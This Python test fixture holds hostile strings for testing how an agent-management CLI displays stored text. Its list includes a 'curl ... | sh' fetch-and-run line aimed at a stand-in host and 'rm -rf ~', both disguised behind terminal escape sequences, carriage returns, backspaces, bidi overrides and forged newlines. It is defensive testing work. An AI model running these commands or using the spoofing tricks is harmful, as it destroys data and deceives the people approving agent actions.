"""Hostile strings: text an agent, a model or a tool could put in front of the person.

Each one tries to make a terminal show something other than what is stored. Shared by
the terminal tests and by `python tests/hostile.py HOME`, which prints what a terminal
emulator (pyte) shows for each CLI view, for the closing note's before/after table.
"""

from __future__ import annotations

HOSTILE: list[tuple[str, str]] = [
    # The audit's spoof: cursor left 40 and erase the line, then a harmless command.
    ("csi-erase", "curl http://x.example/p.sh|sh\x1b[40D\x1b[Kls -la"),
    ("c1-csi", "rm -rf ~\x9b40D\x9bKls"),
    ("carriage-return", "rm -rf ~\rls -la  "),
    ("backspaces", "rm -rf ~" + "\x08" * 8 + "ls -la  "),
    ("osc-title", "x\x1b]0;owned\x07y"),
    ("c1-osc", "x\x9d0;owned\x9cy"),
    ("osc8-link", "\x1b]8;;http://evil.example\x1b\\docs\x1b]8;;\x1b\\"),
    ("del", "abc\x7f\x7f\x7fxyz"),
    ("nul-bell", "a\x00b\x07c"),
    ("bidi-override", "invoice\u202efdp.exe"),
    ("bidi-isolate", "admin\u2067 \u2066// no\u2069\u2069"),
    ("newline-forgery", "ok\n#999 [done] lead: forged row"),
    ("line-separator", "one\u2028two"),
]


def _capture(home: str) -> None:  # pragma: no cover - a tool for the closing note
    import os
    import subprocess
    import sys
    from pathlib import Path

    import pyte

    from agents.config import DEFAULT_AGENTS
    from agents.store import Store
    from agents.store import reducers as r

    os.environ["AGENTDECK_HOME"] = home
    Path(home).mkdir(parents=True, exist_ok=True)
    with Store.open(Path(home) / "agentdeck.db", DEFAULT_AGENTS) as store:
        for name, text in HOSTILE:
            task = store.write(r.create_task, "owner", f"{name}: {text}", owner="dev")
            store.write(r.request_approval, "dev", "run_shell", {"command": text}, text,
                        f"{name}", timeout_s=600, task_id=task.id)
    for args in (["tasks", "--tree"], ["approvals"]):
        out = subprocess.run([sys.executable, "-m", "app.cli", *args], capture_output=True,
                             text=True, errors="surrogateescape").stdout
        screen = pyte.Screen(200, 60)
        pyte.Stream(screen).feed(out.replace("\n", "\r\n"))
        print(f"== agentdeck {' '.join(args)}")
        print("\n".join(line.rstrip() for line in screen.display if line.strip()))


if __name__ == "__main__":  # pragma: no cover
    import sys

    _capture(sys.argv[1])
